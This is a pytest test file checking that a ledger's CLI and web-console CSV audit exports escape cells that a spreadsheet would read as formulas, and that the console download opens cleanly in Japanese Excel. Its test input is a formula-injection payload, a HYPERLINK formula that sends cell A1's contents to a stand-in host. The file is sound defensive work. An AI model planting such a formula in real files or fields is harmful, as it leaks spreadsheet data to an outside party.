"""CSV exports a spreadsheet cannot turn into formulas (OWASP CSV injection): the
CLI's `audit --format csv` and the console's `/console/audit.csv`, both written by
``adapters.spreadsheet``; the console's opens cleanly in Japanese Excel."""

from __future__ import annotations

import csv
import html
import io
import re

import pytest

from adapters.console.spreadsheet import cell
from domain.commands import parse_command
from tests.builders import attach, file_data_media, pay
from tests.support.cli import cli, jsonl
from tests.support.console import Console

HOSTILE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"])
def test_a_text_cell_that_starts_like_a_formula_is_written_as_text(start: str):
    # given text a spreadsheet would read as a formula (or a full-width form of one)
    text = f"{start}1+1"
    # then the cell is that text behind a single quote
    assert cell(text) == f"'{text}"


def test_other_text_and_numbers_the_ledger_writes_are_left_as_they_are():
    assert cell("svc-appender") == "svc-appender"
    assert cell("株式会社テスト") == "株式会社テスト"
    assert cell("") == "" and cell(None) == ""
    # a number the ledger itself writes cannot hold a formula: a negative one stays a number
    assert cell(-700_000) == -700_000 and cell(42) == 42
    # but text that merely looks like a negative number is text, and is escaped
    assert cell("-700000") == "'-700000"


def test_the_cli_audit_csv_writes_a_formula_like_actor_as_text(db_url: str):
    # given events recorded by an actor whose name is a formula
    run = cli("--db", db_url, "--actor", HOSTILE, "apply", "-",
              stdin=jsonl(attach(), file_data_media(), pay()))
    assert run.returncode == 0, run.stderr
    # when the audit trail is exported as CSV
    out = cli("--db", db_url, "audit", "--format", "csv")
    assert out.returncode == 0, out.stderr
    rows = list(csv.DictReader(io.StringIO(out.stdout)))
    # then the actor is text behind a quote, and the ledger's numbers stay numbers
    assert rows and {r["actor"] for r in rows} == {f"'{HOSTILE}"}
    assert [r["position"] for r in rows] == [str(n) for n in range(1, len(rows) + 1)]
    payout = next(r for r in rows if r["event_type"] == "PayoutIssued")
    assert payout["amount"] == "700000" and payout["balance_after"] == "300000"


def page_headers(page: str) -> list[str]:
    table = page[page.index('<table class="audit">'):page.index("</thead>")]
    return [html.unescape(h) for h in re.findall(r'<th scope="col"[^>]*>([^<]*)</th>', table)]


def test_the_console_csv_escapes_formulas_and_opens_in_japanese_excel(
        console: Console):
    # given an event recorded by an actor whose name is a formula
    console.service.ledger.execute(parse_command(attach("P-9")), actor=HOSTILE)
    client = console.sign_in()
    for lang in ("ja", "en"):
        # when the rows shown are downloaded
        params = {"policy_id": "P-9", "lang": lang}
        page = client.get("/console/audit", params=params).text
        download = client.get("/console/audit.csv", params=params)
        # then it is UTF-8 with a byte order mark, headed as the page is, in its language
        assert download.headers["content-type"] == "text/csv; charset=utf-8"
        assert download.content.startswith(b"\xef\xbb\xbf")
        rows = list(csv.reader(io.StringIO(download.content.decode("utf-8-sig"))))
        assert rows[0] == page_headers(page)
        assert ("記録者" if lang == "ja" else "Actor") in rows[0]
        # and the actor is text behind a quote, the position a plain number
        actor = rows[0].index("記録者" if lang == "ja" else "Actor")
        assert {r[actor] for r in rows[1:]} == {f"'{HOSTILE}"}
        shown = [int(p) for p in re.findall(r'<tr data-position="(\d+)"', page)]
        assert [int(r[0]) for r in rows[1:]] == shown
        # with the page's own security headers
        assert download.headers["content-security-policy"].startswith("default-src 'none'")
        assert download.headers["x-content-type-options"] == "nosniff"
